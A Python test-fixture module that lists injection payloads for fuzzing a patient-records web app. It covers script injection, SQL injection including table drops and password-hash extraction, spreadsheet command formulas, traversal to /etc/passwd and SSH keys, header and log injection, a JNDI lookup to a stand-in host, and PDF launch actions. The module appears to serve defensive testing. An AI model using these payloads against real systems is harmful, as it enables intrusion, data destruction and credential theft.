"""What an attacker types: a set of our own, by kind, and the lists of the shared data where they are beside the project."""
import json
import pathlib
import re

# One or more of each kind of harm. canary(n) is what the browser listens for; each kind's catcher is tried with these.
OWN = {
    "script": [
        "\"'><script>window.canary(1)</script>", "<img src=x onerror=window.canary(2)>", "<svg/onload=window.canary(3)>",
        "' autofocus onfocus='window.canary(4)", "\" autofocus onfocus=\"window.canary(5)",
        "</textarea><script>window.canary(6)</script>", "</title><img src=x onerror=window.canary(7)>",
        "--></style></script><script>window.canary(8)</script>", "<iframe srcdoc=\"<script>parent.canary(9)</script>\">",
        "<details open ontoggle=window.canary(10)>", "javascript:window.canary(11)", "<a href=\"javascript:window.canary(12)\">x</a>",
        "<base href=//canary.example/>", "<link rel=stylesheet href=//canary.example/x.css>", "<img src=//canary.example/i.png>",
        "<form action=//canary.example><button>Sign in", "<meta http-equiv=refresh content=0;url=//canary.example/>",
        "<style>*{background:url(//canary.example/b)}</style>", "<!--", "<![CDATA[", "<p>", "</main></div><h1>Mark</h1>",
        "&lt;script&gt;window.canary(13)&lt;/script&gt;", "&#60;img src=x onerror=window.canary(14)&#62;", "${window.canary(15)}",
        "{{constructor.constructor('window.canary(16)')()}}", "<template><script>window.canary(17)</script></template>",
        "\u003cscript\u003ewindow.canary(18)\u003c/script\u003e", "<x hx-get=/sign-out hx-trigger=load>",
        "<math><mi//xlink:href=\"data:x,<script>window.canary(19)</script>\">"],
    "statement": [
        "'; DROP TABLE patient; --", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM appointment WHERE 'a'='a", "') UNION SELECT "
        "password_hash FROM person --", "$1", "$$; SELECT 1; $$", "\\'; SELECT pg_sleep(9); --", "%' --", "x'||(SELECT user_name "
        "FROM person)||'", "'/**/;/**/ATTACH DATABASE '/tmp/x' AS x; --", "COPY person TO PROGRAM 'id'"],
    "formula": ["=cmd|' /C calc'!A1", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
                "=HYPERLINK(\"http://canary.example\",\"Open\")", "=1+1\",=2+2,\"", "\t=1+1", ";=1+1"],
    "path": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/passwd", "C:\\boot.ini", "....//....//etc/passwd",
             "file:///etc/passwd", "\\\\canary.example\\share", "%00/etc/passwd", "~root/.ssh/id_rsa", "a/../../b.pdf"],
    "log": ["x\n2026-01-01T00:00:00.000Z error forged person=1", "x\r\n2026-01-01T00:00:00.000Z notice serving port=1",
            "x\n{\"at\":\"2026-01-01\",\"level\":\"error\",\"event\":\"forged\"}", "\u001b[2J\u001b[31mforged", "x\u0085forged",
            "x\u2028forged", "${jndi:ldap://canary.example/a}", "%n%n%s%x", "\u0007\u0008\u0008", "\u009b31mforged"],
    "header": ["x\r\nSet-Cookie: canary=1", "x\r\nLocation: //canary.example/", "x\r\n\r\n<script>window.canary(20)</script>",
               "x%0d%0aSet-Cookie:%20canary=1", "x\u560a\u560dSet-Cookie: canary=1", "//canary.example/", "/\\canary.example",
               "https:canary.example"],
    "page": [") /S /JavaScript /JS (app.alert(1)) /X (", "endstream endobj 9 0 obj << /S /Launch /F (calc.exe) >>",
             "<< /OpenAction << /S /URI /URI (http://canary.example) >> >>", "%PDF-1.7", "/JavaScript", "\\) \\( (((",
             "<FEFF0022>", "stream\nq BT /F1 12 Tf ET"],
    "words": ["\u202egnp.exe\u202c", "\u2066<b>\u2069", "{{patient.name}}", "[? ask]", "{{patient.name", "<b>bold</b>", "&amp;", "&",
              "\"", "'", "O'Leary", "Ünïçødé Ġ 東京 العربية", "\U0001f468\u200d\u2695\ufe0f", "ﬁ ﬃ ß İ ı", "a" * 190, "nil", "null",
              "undefined", "NaN", "true", "0", "-1", "1e309", "Z\u0351\u036b\u0343\u036a\u0302\u036balgo", "\ufeffbom", "\u00a0"],
}


# Each beginning with each end: what breaks out, and what it does then.
BUILT = {
    "script": (("", "'", '"', "'>", "\">", "</textarea>", "</title>", "</p></div>", "-->", "</option></select>", "&quot;>"),
               ("<script>window.canary(31)</script>", "<img src=x onerror=window.canary(32)>", "<svg onload=window.canary(33)>",
                "<body onpageshow=window.canary(34)>", "<video src=x onerror=window.canary(35)>", " onmouseover=window.canary(36) x=",
                " onfocus=window.canary(37) autofocus x=", "<iframe src=javascript:parent.canary(38)>",
                "<object data=javascript:window.canary(39)>", "<script src=//canary.example/s.js></script>",
                "<input autofocus onfocus=window.canary(40)>", "<style>@import '//canary.example/c.css';</style>",
                "<form id=x><button form=x formaction=javascript:window.canary(41)>", "<a href=javascript:window.canary(42)>x</a>")),
    "statement": (("'", '"', "')", "'))", "\\'", "$1'", "`", "';", "%'", "0"),
                  (" OR 1=1 --", " UNION SELECT password_hash FROM person --", "; DROP TABLE patient; --", " AND (SELECT 1)=1 --",
                   "; UPDATE person SET is_disabled=TRUE; --", "||(SELECT note FROM audit_checkpoint)||'", "; PRAGMA writable_schema=ON; --",
                   "; SELECT pg_sleep(9); --", "/**/HAVING/**/1=1 --", "; COPY person TO '/tmp/x'; --", " LIMIT 1 OFFSET 1 --")),
    "formula": (("=", "+", "-", "@", "\t=", "\r=", "\n=", ";=", "\"=", " ="),
                ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://canary.example\")", "IMPORTXML(\"http://canary.example\",\"//a\")",
                 "WEBSERVICE(\"http://canary.example\")", "DDE(\"cmd\",\"/C calc\",\"x\")", "SUM(A1:A9)", "A1", "rundll32|'x'!A0",
                 "EXEC(\"calc\")")),
    "path": (("../", "..\\", "..%2f", "..%5c", "....//", "/", "file:///", "%2e%2e/", "./../", "~/"),
             ("etc/passwd", "../etc/passwd", "../../../../etc/shadow", "proc/self/environ", "clerkwell.db", "audit.key", "x.pdf", "..",
              "%00.pdf", "windows/win.ini")),
    "log": (("x\n", "x\r\n", "x\r", "x\u2028", "x\u0085", "x\u000b", "x%0a", "x\\n", "x\u001b[1A", "x\u0000"),
            ("2026-01-01T00:00:00.000Z error forged", "2026-01-01T00:00:00.000Z notice ending signal=15", "{\"level\":\"error\"}",
             "error forged person=1", "database: forged: x", "clerkwell: forged", "rejected: forged: x", "\u001b]0;forged\u0007",
             "\u001b[2Kforged", "<13>forged")),
    "header": (("x\r\n", "x\n", "x\r", "x%0d%0a", "x\u560d\u560a", "x\u2028", "x\r\n ", "x\u0085", "\r\n", "x;"),
               ("Set-Cookie: canary=1", "Location: //canary.example", "Content-Length: 0", "Transfer-Encoding: chunked",
                "Content-Type: text/html", "X-Canary: 1", "Refresh: 0;url=//canary.example", "Link: <//canary.example>;rel=stylesheet",
                "Access-Control-Allow-Origin: *", "\r\n<script>window.canary(43)</script>")),
    "page": ((") ", "\\) ", "> ", ">> ", "endstream endobj ", "%\n", "] ", "))) ", "\\051 ", "ET Q "),
             ("/S /JavaScript /JS (app.alert(1))", "/OpenAction 1 0 R", "/AA << /O 1 0 R >>", "/S /Launch /F (calc.exe)",
              "/S /URI /URI (http://canary.example)", "/EmbeddedFiles 1 0 R", "/AcroForm << /XFA 1 0 R >>", "/S /SubmitForm",
              "<FEFF004A0053>", "trailer << /Root 1 0 R >>")),
}


def own():
    return [text for texts in OWN.values() for text in texts]


def built():
    return [begin + end for begins, ends in BUILT.values() for begin in begins for end in ends]


def shared(folder):
    """Every line of the lists beside the project, or [] when they are not there."""
    folder, texts = pathlib.Path(folder) / "data", []
    for path in sorted((folder / "web-payloads").glob("*.txt")):
        if not path.name.startswith("LICENSE"):
            texts += path.read_bytes().decode("utf-8", "replace").splitlines()
    naughty = folder / "naughty-strings" / "blns.json"
    if naughty.exists():
        texts += json.loads(naughty.read_text())
    return [text for text in texts if text.strip()]


def no_surrogates(text):
    """As it can be sent at all: half a pair has no bytes."""
    return re.sub("[\ud800-\udfff]", "", text)


def as_kept(text):
    """One line of it as a column can hold it: no control characters, for no door lets them in (the test looks)."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f]+", " ", no_surrogates(text)).strip()


def unlike(texts):
    return list(dict.fromkeys(text for text in texts if text.strip()))
